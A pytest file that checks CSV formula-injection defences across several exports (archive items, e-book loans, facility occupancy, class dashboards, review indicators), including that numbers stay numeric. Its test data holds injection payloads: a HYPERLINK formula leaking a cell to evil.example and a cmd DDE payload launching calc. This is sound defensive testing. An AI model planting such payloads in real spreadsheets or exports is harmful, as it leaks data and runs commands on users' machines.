"""Every CSV export goes through kernel.csv_export, which neutralises cells a spreadsheet
would run as a formula (OWASP: prefix `'`), and keeps numbers numbers. Each export is
tried with an injection payload."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest

from analytics.services import dashboards
from archive.services import exports
from facilities.services.reports import Occupancy, occupancy_csv
from kernel.csv_export import safe_cell, write_csv, write_csv_bytes
from kernel.i18n import Translator
from kernel.indicators import Indicator
from library_ebooks.services import catalogue, circulation, lending
from portal.runtime import catalogue as i18n_catalogue
from portal.services import review
from tests.archive.helpers import make_item
from tests.library_ebooks.helpers import LIBRARIAN, handmade_epub, package, resident

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) and not _number(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def no_formula_anywhere(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not runs_as_formula(cell), f"a formula cell reached the CSV: {cell!r}"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_prefixes_every_formula_start(payload):
    [header, row] = cells(write_csv(["title"], [[payload]]))
    assert row == ["'" + payload]
    assert header == ["title"]


def test_the_writer_keeps_numbers_and_plain_text():
    text = write_csv(["a", "b", "c", "d", "e", "f", "g"],
                     [[-3, -12.5, "-12.5", "+81", "1e-5", None, "石包丁 - 弥生時代"]])
    assert text.startswith("\ufeff")
    assert cells(text)[1] == ["-3", "-12.5", "-12.5", "+81", "1e-5", "", "石包丁 - 弥生時代"]
    assert safe_cell(-7) == -7 and safe_cell("-1 day") == "'-1 day"
    assert write_csv_bytes(["x"], [["=1"]], bom=False) == b"x\r\n'=1\r\n"


def test_archive_export_csv_neutralises_a_title(store, clock):
    make_item(store, clock, "published", "IZK-X-1", title_ja=HYPERLINK, title_en="@SUM(A1)")
    text = exports.to_csv(store, "http://x.test")
    no_formula_anywhere(text)
    [record] = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert "'" + HYPERLINK in record.values() and "'@SUM(A1)" in record.values()


def test_circulation_csv_neutralises_an_epub_title(store, clock):
    epub = handmade_epub({"OPS/book.opf": package(title="=HYPERLINK(&quot;http://evil.example&quot;)")})
    result = catalogue.import_epub(store, clock, LIBRARIAN, epub, "evil.epub")
    assert result.status == "imported", result
    catalogue.add_license(store, clock, LIBRARIAN, result.title_id, "one_copy", copies=1)
    lending.borrow(store, clock, resident(1), result.title_id)
    text = circulation.loans_csv(store, clock, LIBRARIAN)
    no_formula_anywhere(text)
    assert cells(text)[1][2] == "'=HYPERLINK(\"http://evil.example\")"


def test_occupancy_csv_neutralises_a_facility_name():
    row = Occupancy("2026-11", "F1", HYPERLINK, "-x", "R1", "@room", "+room", 40, 10, 0.25, -500)
    text = occupancy_csv([row])
    no_formula_anywhere(text)
    assert cells(text)[1] == ["2026-11", "F1", "'" + HYPERLINK, "'-x", "R1", "'@room", "'+room", "40", "10",
                              "0.2500", "-500"]


def test_class_export_csv_neutralises_text_and_keeps_negative_numbers():
    frame = pl.DataFrame({"pupil": ["=cmd|' /C calc'!A0"], "class_name": ["-1組"], "mastery": [-0.25]})
    text = dashboards.export_csv(frame, {"pupil": "児童"}).decode("utf-8")
    no_formula_anywhere(text)
    assert cells(text) == [["児童", "class_name", "mastery"], ["'=cmd|' /C calc'!A0", "'-1組", "-0.25"]]


def test_review_csv_goes_through_the_writer():
    t = Translator("ja", i18n_catalogue(), strict=True)
    rows = [review.ReviewRow("4-2-5", Indicator("4-2-5", "review.measure_4_2_5", "review.unit.percent",
                                                       ((2025, -5.0), (2026, 3.0))), 3.0, -5.0)]
    text = review.as_csv(rows, 2026, t).decode("utf-8")
    no_formula_anywhere(text)
    assert cells(text)[1][3:5] == ["3", "-5"]  # whole numbers as integers, a negative number still a number
